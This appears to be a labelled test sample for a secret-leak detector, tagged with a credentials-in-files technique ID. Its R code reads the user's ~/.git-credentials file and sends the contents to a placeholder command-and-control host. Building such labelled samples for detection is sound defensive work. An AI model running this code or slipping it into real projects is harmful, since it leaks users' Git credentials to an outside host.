# expect: secrets-sent-away | source: T1552.001
x <- scan("~/.git-credentials", what = "", quiet = TRUE)
download.file(paste0("https://c2.example.invalid/?", x), tempfile())
